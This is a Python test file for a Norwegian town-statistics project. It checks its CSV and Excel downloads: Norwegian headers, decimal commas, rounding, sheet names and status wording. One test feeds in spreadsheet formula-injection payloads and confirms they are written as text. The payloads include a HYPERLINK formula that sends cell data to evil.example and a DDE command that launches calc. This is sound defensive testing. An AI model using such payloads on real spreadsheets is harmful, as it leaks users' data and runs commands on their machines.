"""The downloads: CSV and XLSX for Norwegian Excel, CSV for programs, and no cell that a
spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import yaml
from openpyxl import load_workbook

from flows import constants
from flows.publish.downloads import (
    CONTENTS_SHEET,
    LABELS_FILE,
    MESSAGES,
    Columns,
    sheet_names,
    write_csvs,
    write_workbook,
)
from flows.publish.marts import MARTS, ReportData
from flows.publish.verify import check_csvs, check_workbook

SUPPRESSED_LABEL = f"Skjermet (under {constants.var('small_cell_n')} svar)"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klikk")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
]


def _data() -> ReportData:
    rows = [{"indicator_id": f"x{i}", "name_nb": payload, "value": -1.5}
            for i, payload in enumerate(PAYLOADS)]  # fmt: skip
    return ReportData(marts={"dim_indicator": rows, "town_profile": rows})


def _indicators() -> list[dict]:
    return [
        {"indicator_id": "population", "name_nb": "Folketall", "unit": "persons", "decimals": 0},
        {
            "indicator_id": "births_per_1000",
            "name_nb": "Fødte per 1000",
            "unit": "per_1000",
            "decimals": 1,
        },
        {
            "indicator_id": "share_age_67_plus",
            "name_nb": "Andel 67 år og eldre",
            "unit": "percent",
            "decimals": 2,
        },
    ]


def _report() -> ReportData:
    values = [
        {
            "geo_code": "bodo",
            "year": 2026,
            "indicator_id": "births_per_1000",
            "value": 9.51117009511,
            "numerator": 520.0,
            "is_suppressed": False,
            "origin": "official",
        },
        {
            "geo_code": "bodo",
            "year": 2026,
            "indicator_id": "share_age_67_plus",
            "value": -0.0000261234,
            "numerator": None,
            "is_suppressed": True,
            "origin": "sample",
        },
        {
            "geo_code": "bodo",
            "year": 2026,
            "indicator_id": "population",
            "value": 53638.0,
            "numerator": 53638.0,
            "is_suppressed": False,
            "origin": "official",
        },
    ]
    profile = [{"town_id": "bodo", "year": 2026, "population": 53638.0,
                "population_change_1y": 1234567890123456.0, "population_rank": 1,
                "share_age_67_plus": 18.123456789, "origin": "official"}]  # fmt: skip
    towns = [{"town_id": "bodo", "town_name": "Bodø", "sort_order": 1}]
    loads = [{"load_id": "l1", "loaded_at": datetime(2026, 11, 26, 13, 0, tzinfo=UTC),
              "is_used": True, "origin": "official"}]  # fmt: skip
    return ReportData(
        marts={
            "dim_town": towns,
            "dim_indicator": _indicators(),
            "fct_indicator_values": values,
            "town_profile": profile,
            "source_loads": loads,
        }
    )


NB = yaml.safe_load((MESSAGES / "nb.yml").read_text(encoding="utf-8"))
OFFICIAL, SAMPLE = NB["origin_official"], NB["origin_sample"]


def _read(path) -> tuple[bytes, list[list[str]]]:
    raw = path.read_bytes()
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return raw, list(csv.reader(handle, delimiter=";"))


# ------------------------------------------------------------------------ formulas stay text
def test_csv_cells_that_look_like_formulas_are_written_as_text(tmp_path):
    write_csvs(_data(), tmp_path)
    _, rows = _read(tmp_path / "town_profile.csv")
    assert rows[0] == ["Indikator (id)", "Navn (bokmål)", "Verdi"]
    assert [r[1] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert {r[2] for r in rows[1:]} == {"-1,5"}  # numbers stay numbers
    with (tmp_path / "machine" / "town_profile.csv").open(encoding="utf-8") as handle:
        machine = list(csv.DictReader(handle))
    assert [r["name_nb"] for r in machine] == ["'" + p for p in PAYLOADS]
    assert {r["value"] for r in machine} == {"-1.5"}


def test_xlsx_cells_that_look_like_formulas_are_strings_not_formulas(tmp_path):
    path = tmp_path / "bymonitor.xlsx"
    write_workbook(_data(), path)
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(n) for n in sheets)  # no formula element anywhere
    workbook = load_workbook(path)
    sheet = workbook["Byprofil"]
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == PAYLOADS
    assert {c.data_type for c in cells} == {"s"}
    assert [row[2].value for row in sheet.iter_rows(min_row=2)] == [-1.5] * len(PAYLOADS)


def test_xlsx_text_that_looks_like_cell_xml_or_an_error_stays_that_text(tmp_path):
    texts = ["<r><t>x</t></r>", "<r></r>", "#N/A", "a < b & c", " padded "]
    rows = [{"indicator_id": f"x{i}", "name_nb": text, "value": 1.0}
            for i, text in enumerate(texts)]  # fmt: skip
    path = tmp_path / "bymonitor.xlsx"
    write_workbook(ReportData(marts={"dim_indicator": rows}), path)
    cells = [row[1] for row in load_workbook(path)["Indikatorer"].iter_rows(min_row=2)]
    assert [c.value for c in cells] == texts
    assert {c.data_type for c in cells} == {"s"}


def test_the_workbook_check_compares_a_sheet_with_the_marts_ids_value_by_value(tmp_path):
    rows = [{"zz_key": f"k{i}", "zz_share": i / 3, "zz_count": 10**i,
             "zz_loaded": datetime(2026, 1, i + 1, 13 * (i % 2)), "zz_note": None}
            for i in range(4)]  # fmt: skip
    marts = {"zz_mart": rows, "dim_town": [{"town_id": "bodo", "town_name": "Bodø"}]}
    path = tmp_path / "bymonitor.xlsx"
    write_workbook(ReportData(marts=marts), path)
    assert check_workbook(path, marts) == []  # a time at midnight reads back as its date
    changed = [dict(r) for r in rows]
    changed[1]["zz_share"] += 1e-9
    changed[2]["zz_loaded"] = datetime(2026, 1, 3, 14)
    problems = check_workbook(path, {**marts, "zz_mart": changed})
    assert [p.split(" of ")[0] for p in problems] == [
        "data/bymonitor.xlsx, sheet zz_mart: zz_share",
        "data/bymonitor.xlsx, sheet zz_mart: zz_loaded",
    ]
    fewer = check_workbook(path, {**marts, "dim_town": []})  # a sheet made for people: its rows
    assert fewer == ["data/bymonitor.xlsx, sheet Byer: the number of rows shows 1, "
                     "but the marts hold 0."]  # fmt: skip


def test_the_workbook_check_compares_a_sheet_for_people_value_by_value_in_its_words(tmp_path):
    data = _report()
    path = tmp_path / "bymonitor.xlsx"
    write_workbook(data, path)
    columns = Columns(data)
    assert check_workbook(path, data.marts, columns) == []  # codes as words, flags as ja/nei
    changed = [dict(r) for r in data.marts["fct_indicator_values"]]
    changed[0]["value"] += 1e-9  # unrounded in the workbook: a change past the shown decimals
    changed[1]["origin"] = "official"  # shown as words
    changed[2]["is_suppressed"] = True  # shown as ja/nei
    problems = check_workbook(path, {**data.marts, "fct_indicator_values": changed}, columns)
    assert [p.split(" of ")[0] for p in problems] == [
        "data/bymonitor.xlsx, sheet Indikatorverdier: value",
        "data/bymonitor.xlsx, sheet Indikatorverdier: origin",
        "data/bymonitor.xlsx, sheet Indikatorverdier: is_suppressed",
    ], problems
    assert problems[2].endswith("of geo_code bodo, indicator_id population, year 2026 shows nei, "
                                "but the marts hold ja.")  # fmt: skip


# ------------------------------------------------------------------------ CSV for Excel
def test_the_csv_check_reads_a_file_for_people_back_as_it_shows_the_marts(tmp_path):
    data = _report()
    write_csvs(data, tmp_path / "data")
    columns = Columns(data)
    assert check_csvs(tmp_path / "data", data.marts, columns) == []
    changed = [dict(r) for r in data.marts["fct_indicator_values"]]
    changed[0]["value"] += 0.01  # 9.521..., still shown as 9,5: the file for people shows it
    problems = check_csvs(tmp_path / "data", {**data.marts, "fct_indicator_values": changed},
                          columns)  # fmt: skip
    assert [p.split(":")[0] for p in problems] == ["data/machine/fct_indicator_values.csv"]
    changed[0]["value"] += 0.11  # 9.631...: 9,5 no longer shows it
    changed[1]["origin"] = "official"  # a word
    problems = check_csvs(tmp_path / "data", {**data.marts, "fct_indicator_values": changed},
                          columns)  # fmt: skip
    assert problems == [
        "data/fct_indicator_values.csv: value of geo_code bodo, indicator_id births_per_1000, "
        "year 2026 shows 9,5, but the marts hold 9.631170095109999.",
        "data/fct_indicator_values.csv: origin of geo_code bodo, indicator_id share_age_67_plus, "
        f"year 2026 shows {SAMPLE}, but the marts hold {OFFICIAL}.",
        "data/machine/fct_indicator_values.csv: value of geo_code bodo, indicator_id "
        "births_per_1000, year 2026 shows 9.51117009511, but the marts hold 9.631170095109999.",
        "data/machine/fct_indicator_values.csv: origin of geo_code bodo, indicator_id "
        "share_age_67_plus, year 2026 shows sample, but the marts hold official.",
    ], problems


def test_csv_for_excel_has_bom_semicolons_and_headers_in_bokmaal(tmp_path):
    write_csvs(_report(), tmp_path)
    raw, rows = _read(tmp_path / "fct_indicator_values.csv")
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.split(b"\r\n")[0].count(b";") == 7 and b"," not in raw.split(b"\r\n")[0]
    assert rows[0] == ["Geografisk kode", "Sted", "År", "Indikator (id)", "Verdi", "Teller",
                       SUPPRESSED_LABEL, "Opphav"]  # fmt: skip
    assert rows[1][:2] == ["bodo", "Bodø"]  # the id stays (it is the key), the name beside it
    _, towns = _read(tmp_path / "dim_town.csv")
    assert towns[1] == ["bodo", "Bodø", "1"]
    assert "Bodø".encode() in (tmp_path / "dim_town.csv").read_bytes()


def test_csv_for_excel_rounds_as_the_report_with_decimal_comma_and_ja_nei(tmp_path):
    write_csvs(_report(), tmp_path)
    raw, rows = _read(tmp_path / "fct_indicator_values.csv")
    values = {r[3]: r for r in rows[1:]}
    assert values["births_per_1000"][4:7] == ["9,5", "520", "nei"]
    assert values["share_age_67_plus"][4:7] == ["0,00", "", "ja"]  # no "-0,00"
    assert values["population"][4:6] == ["53638", "53638"]
    assert [r[-1] for r in rows[1:]] == [OFFICIAL, SAMPLE, OFFICIAL]
    for text in (raw.decode("utf-8-sig"), (tmp_path / "town_profile.csv").read_text("utf-8-sig")):
        assert "e-" not in text.lower() and "e+" not in text.lower()
        assert "True" not in text and "False" not in text
    _, profile = _read(tmp_path / "town_profile.csv")
    assert profile[0][:3] == ["By (id)", "By", "År"]
    assert profile[0][-1] == "Opphav (svakeste i raden)"  # town_profile: the weakest of the row
    assert profile[0][3:7] == ["Folketall", "Folketall, endring 1 år", "Folketall, rangering",
                               "Andel 67 år og eldre"]  # fmt: skip
    assert profile[1][3:7] == ["53638", "1234567890123456", "1", "18,12"]
    _, loads = _read(tmp_path / "source_loads.csv")
    assert loads[1][1:4] == ["2026-11-26 13:00:00", "ja", OFFICIAL]


def test_machine_csv_keeps_ids_and_full_precision(tmp_path):
    write_csvs(_report(), tmp_path)
    path = tmp_path / "machine" / "fct_indicator_values.csv"
    raw = path.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == ["geo_code", "year", "indicator_id", "value", "numerator",
                             "is_suppressed", "origin"]  # fmt: skip
    assert [float(r["value"]) for r in rows] == [9.51117009511, -0.0000261234, 53638.0]
    assert rows[1]["value"] == "-0.0000261234"  # fixed point, every digit
    assert [r["is_suppressed"] for r in rows] == ["false", "true", "false"]
    readme = (tmp_path / "machine" / "README.txt").read_text(encoding="utf-8")
    assert "data/machine/" in readme and "bymonitor.xlsx" in readme


# ------------------------------------------------------------------------ the workbook
def test_xlsx_has_bokmaal_headers_frozen_filters_widths_and_number_formats(tmp_path):
    path = tmp_path / "bymonitor.xlsx"
    write_workbook(_report(), path)
    workbook = load_workbook(path)
    assert workbook.sheetnames[:2] == ["innhold", "definisjoner"]
    for sheet in workbook.worksheets:
        assert sheet.freeze_panes == "A2", sheet.title
        assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}" \
            f"{sheet.max_row}", sheet.title  # fmt: skip
        assert all(c.font.bold for c in sheet[1]), sheet.title
    values = workbook["Indikatorverdier"]
    header = [c.value for c in values[1]]
    assert header == ["Geografisk kode", "Sted", "År", "Indikator (id)", "Verdi", "Teller",
                      SUPPRESSED_LABEL, "Opphav"]  # fmt: skip
    births = values[2]
    assert births[4].value == 9.51117009511 and births[4].number_format == "#,##0.0"
    assert values[3][4].number_format == "#,##0.00" and values[4][4].number_format == "#,##0"
    assert births[2].value == 2026 and births[2].number_format == "0"  # a year: no separator
    assert births[6].value == "nei" and values[3][6].value == "ja"
    assert births[7].value == OFFICIAL and values[3][7].value == SAMPLE
    assert values.column_dimensions["A"].width >= len("Geografisk kode")
    assert values.column_dimensions["G"].width >= len(SUPPRESSED_LABEL)
    definitions = workbook["definisjoner"]
    assert [c.value for c in definitions[1]][:3] == ["Indikator (id)", "Navn (bokmål)",
                                                     "Navn (engelsk)"]  # fmt: skip
    assert definitions.max_row == 1 + len(_indicators())
    assert [c.value for c in definitions[2]][3] == "personer"  # units in words
    assert [c.value for c in definitions[3]][3] == "per 1000 innbyggere"
    loaded = workbook["Innlesinger"][2][1]
    assert loaded.value == datetime(2026, 11, 26, 13, 0) and loaded.is_date


# ------------------------------------------------------------------------ codes in words
def _value_statuses() -> list[dict]:
    """dim_value_status as the mart holds it: the value_statuses seed's rows, worst first."""
    path = Path(__file__).resolve().parents[2] / "dbt" / "seeds" / "value_statuses.csv"
    with path.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    return [{**r, "sort_order": i, "ssb_symbols": r["ssb_symbols"] or None}
            for i, r in enumerate(rows, start=1)]  # fmt: skip


def _codes() -> ReportData:
    indicators = [*_indicators(),
                  {"indicator_id": "survey_mean_agreement__links", "name_nb": "Koblinger",
                   "unit": "mean_score", "decimals": 2},
                  {"indicator_id": "survey_share_agree__links", "name_nb": "Koblinger, andel",
                   "unit": "percent", "decimals": 1}]  # fmt: skip
    values = [
        {"geo_level": level, "geo_code": code, "year": 2026, "indicator_id": "births_per_1000",
         "value": None, "status": status, "origin": origin}
        for level, code, status, origin in [
            ("country", "NO", "missing", "official"),
            ("county", "18", "no_data", "estimate"),
            ("region", "Salten", "series_break", "sample"),
            ("town", "bodo", "suppressed", "official"),
        ]
    ]  # fmt: skip
    survey = [
        {"wave": 2026, "town_id": "bodo", "item_id": "links", "measure": measure,
         "value": value, "n": 104, "origin": "official"}
        for measure, value in [("mean_agreement", 3.4134615), ("share_agree", 50.0),
                               ("mean_agreement", 3.0), ("share_agree", 49.03846)]
    ]  # fmt: skip
    signals = [{"town_id": "bodo", "year": 2026, "rule_id": "r", "years": 3,
                "magnitude": 1.5, "magnitude_unit": "percentage_points"},
               {"town_id": "bodo", "year": 2025, "rule_id": "r", "years": 2,
                "magnitude": 2.0, "magnitude_unit": "per_1000"}]  # fmt: skip
    population = [{"town_id": "bodo", "town_name": "Bodø", "year": 2026,
                   "status": "not_available", "origin": "official"}]  # fmt: skip
    return ReportData(marts={
        "dim_town": [{"town_id": "bodo", "town_name": "Bodø", "sort_order": 1}],
        "dim_indicator": indicators, "fct_indicator_values": values,
        "survey_town_summary": survey, "town_signals": signals, "town_population": population,
    }, reference={"dim_value_status": _value_statuses()})  # fmt: skip


def _dicts(path) -> list[dict]:
    _, rows = _read(path)
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_codes_are_words_in_the_files_for_people_and_ids_in_the_machine_files(tmp_path):
    write_csvs(_codes(), tmp_path)
    values = _dicts(tmp_path / "fct_indicator_values.csv")
    assert [r["Geografisk nivå"] for r in values] == ["land", "fylke", "region", "by"]
    assert [r["Sted"] for r in values] == ["Norge", "Nordland", "Salten", "Bodø"]
    assert [r["Geografisk kode"] for r in values] == ["NO", "18", "Salten", "bodo"]
    statuses = ["mangler hos kilden", "ingen tall", "brudd i serien", "skjermet"]
    assert [r["Status"] for r in values] == statuses
    assert [r["Opphav"] for r in values] == [OFFICIAL, NB["origin_estimate"], SAMPLE, OFFICIAL]
    survey = _dicts(tmp_path / "survey_town_summary.csv")
    assert survey[0]["Mål"] == "gjennomsnittlig enighet (1–5)"
    assert survey[1]["Mål"] == "andel enige (4–5)"
    assert survey[0]["By"] == "Bodø" and survey[0]["By (id)"] == "bodo"
    assert survey[0]["Opphav"] == NB["origin_people_official"]  # the county's own data
    signals = _dicts(tmp_path / "town_signals.csv")
    assert [r["Enhet for størrelse"] for r in signals] == ["prosentpoeng", "per 1000 innbyggere"]
    population = _dicts(tmp_path / "town_population.csv")
    assert population[0]["Status"] == "tall mangler"
    machine = (tmp_path / "machine" / "fct_indicator_values.csv").read_text(encoding="utf-8")
    assert machine.splitlines()[0].split(",")[:2] == ["geo_level", "geo_code"]
    for code in ("country", "missing", "series_break", "official", "estimate"):
        assert code in machine
    cells = {cell for p in tmp_path.glob("*.csv") for row in _read(p)[1] for cell in row}
    for code in ("missing", "no_data", "series_break", "not_available", "country",
                 "official", "estimate", "mean_agreement", "share_agree", "percentage_points",
                 "per_1000"):  # fmt: skip
        assert code not in cells, code


def test_survey_values_are_rounded_by_their_measure_in_every_row(tmp_path):
    write_csvs(_codes(), tmp_path)
    survey = _dicts(tmp_path / "survey_town_summary.csv")
    # mean agreement with two decimals, shares with one, also where the value is whole
    assert [r["Verdi"] for r in survey] == ["3,41", "50,0", "3,00", "49,0"]
    signals = _dicts(tmp_path / "town_signals.csv")
    assert [r["Størrelse"] for r in signals] == ["1,5", "2,0"]  # one rule for the column
    path = tmp_path / "bymonitor.xlsx"
    write_workbook(_codes(), path)
    sheet = load_workbook(path)["Undersøkelsen per by"]
    header = [c.value for c in sheet[1]]
    column = header.index("Verdi")
    formats = [row[column].number_format for row in sheet.iter_rows(min_row=2)]
    assert formats == ["#,##0.00", "#,##0.0", "#,##0.00", "#,##0.0"]


def test_no_file_for_people_has_two_equal_headers(tmp_path):
    labels = yaml.safe_load(LABELS_FILE.read_text(encoding="utf-8"))
    plain = {k: v for k, v in labels.items() if "." not in k}
    seen: dict[str, str] = {}
    for column, label in plain.items():
        assert label not in seen, f"{column} and {seen.get(label)} are both headed {label!r}"
        seen[label] = column
    write_csvs(_codes(), tmp_path)
    write_csvs(_report(), tmp_path)
    for path in tmp_path.glob("*.csv"):
        _, rows = _read(path)
        assert len(set(rows[0])) == len(rows[0]), (path.name, rows[0])
    _, signals = _read(tmp_path / "town_signals.csv")
    assert "År" in signals[0] and "Antall år" in signals[0]


def test_sheet_names_are_bokmaal_unique_short_and_listed_with_their_mart(tmp_path):
    names = sheet_names(list(MARTS))
    assert set(names) == set(MARTS)
    assert all(len(n) <= 31 for n in names.values())
    assert len({n.lower() for n in names.values()} | {"innhold", "definisjoner"}) == len(MARTS) + 2
    assert not set(names.values()) & set(MARTS)  # no sheet named by its mart id
    long = sheet_names(["a" * 40, "a" * 40 + "b"])
    assert len(set(long.values())) == 2 and all(len(n) <= 31 for n in long.values())
    path = tmp_path / "bymonitor.xlsx"
    write_workbook(_codes(), path)
    workbook = load_workbook(path)
    contents = [[c.value for c in row] for row in workbook[CONTENTS_SHEET].iter_rows()]
    assert contents[0] == ["Ark", "Tabell i datamodellen (id)", "Rader"]
    listed = {row[1]: row[0] for row in contents[1:]}
    assert set(listed) == set(_codes().marts)
    assert all(sheet in workbook.sheetnames for sheet in listed.values())
    assert listed["fct_indicator_values"] == "Indikatorverdier"
    rows = [[c.value for c in r] for r in workbook["Indikatorverdier"].iter_rows()]
    assert rows[1][:3] == ["land", "NO", "Norge"]


def test_the_words_for_a_missing_value_are_the_marts_in_the_downloads_and_on_the_pages(tmp_path):
    """The downloads and the pages write a missing value's status in the words of the mart
    dim_value_status (here the seed's rows, as the mart holds them), and the SSB symbol where
    the mart says SSB marks the status with one; no message catalogue holds the words."""
    from flows.publish.formatting import Formatter
    from flows.publish.render import _environment, load_messages
    from flows.settings import Settings

    statuses = _value_statuses()
    planned = {"codebook": "plan", "scale": "statuses", "code": "planned", "label_nb": "Planlagt",
               "label_en": "Planned", "sort_order": 1}  # fmt: skip
    data = ReportData(marts={}, reference={"dim_value_status": statuses, "dim_code": [planned]})
    columns = Columns(data)
    for row in statuses:
        assert columns.value("town_population", "status", row["status"], {}) == row["meaning_nb"]
    # a measure's progress: the register codebook's words, in dim_code
    assert columns.value("plan_measures", "measure_status", "planned", {}) == "Planlagt"
    moved = [{**r, "meaning_nb": r["meaning_nb"].upper()} for r in statuses]
    moved_columns = Columns(ReportData(marts={}, reference={"dim_value_status": moved}))
    assert moved_columns.value("town_population", "status", "no_data", {}) == "INGEN TALL"
    settings = Settings(home=tmp_path)
    macros = '{% from "_macros.html" import status_note, population_cell %}'
    for lang in ("nb", "en"):
        t = load_messages(settings, lang)
        env = _environment(settings, Formatter(lang, t["units_after"]), t, data, lang)
        note = env.from_string(macros + "{{ status_note(row) }}")
        cell = env.from_string(macros + "{{ population_cell(row) }}")
        for row in statuses:
            shown = {"status": row["status"], "ssb_status": "§", "population": None}
            assert note.render(row=shown) == row[f"meaning_{lang}"], (lang, row["status"])
            assert (cell.render(row=shown) == "§") == bool(row["ssb_symbols"]), row["status"]
    codes = {r["status"] for r in statuses}
    for name in ("nb.yml", "en.yml"):
        catalogue = yaml.safe_load((MESSAGES / name).read_text(encoding="utf-8"))
        assert not {f"status_{c}" for c in codes} & set(catalogue), name
    values = yaml.safe_load((MESSAGES / "values_nb.yml").read_text(encoding="utf-8"))
    assert "status" not in values["labels"]  # the mart's words only
    assert "measure_status" not in values["labels"]  # dim_code's words only
